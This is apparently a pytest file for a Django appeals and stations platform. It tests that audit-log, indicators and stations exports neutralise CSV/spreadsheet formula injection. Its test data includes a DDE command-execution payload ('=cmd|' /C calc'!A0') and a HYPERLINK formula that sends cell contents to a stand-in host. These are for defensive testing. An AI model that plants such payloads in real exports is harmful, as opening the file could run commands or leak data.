"""Spreadsheet formula injection ("CSV injection") in every export: the audit log (CSV and .xlsx), the
appeals indicators workbook and the stations workbook. With a formula in every free-text field the
exports hold, each such cell is neutralised — prefixed with ' — when read back with the csv module or
openpyxl: no text cell starts with = + - @ tab or CR, and no cell is a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from shegong.accounts.choices import Role
from shegong.appeals import services as s
from shegong.appeals.choices import AppealType, Channel, Satisfaction, WorkerType
from shegong.appeals.models import Category
from shegong.core.models import AuditEvent
from shegong.divisions import services as unit_services
from shegong.stations.models import Station
from tests.support.world import World

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://example.invalid/?"&A1,"点我")',
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _dangerous_text(cells: list[Any]) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(DANGEROUS)]


def _xlsx_cells(content: bytes) -> tuple[list[Any], list[str]]:
    """Every cell value of every sheet, and the coordinates of any formula cell."""
    workbook = load_workbook(io.BytesIO(content))
    values, formulas = [], []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                values.append(cell.value)
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}")
    return values, formulas


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _neutralised(value: Any, formula: str) -> bool:
    """`value` is `formula` behind the apostrophe (services strip leading blanks: "\t=1" is kept as "=1")."""
    if not isinstance(value, str):
        return False
    read_back = value.replace("\n", "\r")  # an .xlsx keeps CR as a line feed
    return any(v.startswith("'" + f) for v in (value, read_back) for f in (formula, formula.lstrip()))


def _check(cells: list[Any], where: str) -> None:
    assert _dangerous_text(cells) == [], where
    shown = [c for c in cells if isinstance(c, str)]
    for formula in FORMULAS:
        # each formula is there, as text behind the apostrophe (the CSV reader may fold CR line ends)
        assert any(("'" + formula) in c or ("'" + formula.replace("\r", "\n")) in c for c in shown), (
            where,
            formula,
        )


# --- audit log --------------------------------------------------------------------------------------------


@pytest.fixture
def auditor(world: World, client: Client) -> Client:
    for n, formula in enumerate(FORMULAS):
        AuditEvent.objects.create(
            actor_label=formula,
            actor_role=formula[:32],
            action="accounts.user.updated",
            target_type="accounts.user",
            target_id=formula[:64],
            target_label=formula,
            division_code=world.home_community.code,
            request_id=f"req-{n}",
            changes={"real_name": [formula, formula]},
        )
    client.force_login(world.user(Role.AUDITOR))
    return client


def test_audit_csv_export_neutralises_every_formula(auditor: Client) -> None:
    response = auditor.get("/desk/audit/export/", {"format": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(_body(response))
    _check([c for c in cells if not c.startswith("{")], "audit csv")  # the JSON diff starts with {


def test_audit_xlsx_export_neutralises_every_formula(auditor: Client) -> None:
    response = auditor.get("/desk/audit/export/", {"format": "xlsx"})
    assert response.status_code == 200
    values, formulas = _xlsx_cells(_body(response))
    assert formulas == []
    _check([v for v in values if not (isinstance(v, str) and v.startswith("{"))], "audit xlsx")


# --- appeals indicators -----------------------------------------------------------------------------------


def test_indicators_export_neutralises_every_formula(world: World, client: Client) -> None:
    admin = world.user(Role.PLATFORM_ADMIN)
    intake = world.user(Role.INTAKE)
    leader = world.user(Role.LEADER)
    units = [
        unit_services.unit_create(actor=admin, name=f"{f}单位{n}", unit_type="other", division=world.home)
        for n, f in enumerate(FORMULAS)
    ]
    category = Category.objects.filter(parent__isnull=False, is_active=True).first()
    for n, (formula, unit) in enumerate(zip(FORMULAS, units, strict=True)):
        handler = world.user(Role.HANDLER, world.home, unit=unit)
        appeal = s.appeal_submit(
            text=formula + " 配送费被扣",
            division=world.home_community,
            phone=f"1380013800{n}",
            appeal_type=AppealType.COMPLAINT,
            worker_type=WorkerType.FOOD_DELIVERY,
            channel=Channel.H5,
            platform=formula[:50],
            address=formula,
        )
        appeal = s.appeal_accept(appeal=appeal, actor=intake, category=category)
        appeal = s.appeal_dispatch(appeal=appeal, actor=intake, unit=unit, note=formula)
        appeal = s.appeal_sign_for(appeal=appeal, actor=handler)
        appeal = s.appeal_reply(appeal=appeal, actor=handler, text=formula, resolved=True)
        s.appeal_rate(appeal=appeal, resolved=True, satisfaction=Satisfaction.SATISFIED, comment=formula)
    client.force_login(leader)
    for group in ("unit", "division"):
        response = client.get("/desk/appeals/indicators/export/", {"period": "this_month", "group": group})
        assert response.status_code == 200, group
        values, formulas = _xlsx_cells(_body(response))
        assert formulas == [], group
        assert _dangerous_text(values) == [], group
        # the units and the appeals' texts are in it, neutralised
        for formula in FORMULAS:
            assert any(_neutralised(v, formula) for v in values), (group, formula)


# --- stations ---------------------------------------------------------------------------------------------


def test_stations_export_neutralises_every_formula(world: World, client: Client) -> None:
    for n, formula in enumerate(FORMULAS):
        station = Station(
            name=f"{formula}驿站{n}",
            division=world.home,
            address=formula,
            lat=41.82,
            lng=123.42 + n / 1000,
            amenities=["water"],
            opening_hours=dict.fromkeys(("mon", "tue", "wed", "thu", "fri", "sat", "sun"), "24h"),
        )
        station.full_clean()
        station.save()
    client.force_login(world.user(Role.PLATFORM_ADMIN))
    response = client.get("/desk/stations/transfer/export/")
    assert response.status_code == 200
    values, formulas = _xlsx_cells(_body(response))
    assert formulas == []
    assert _dangerous_text(values) == []
    for formula in FORMULAS:
        assert any(_neutralised(v, formula) for v in values), formula
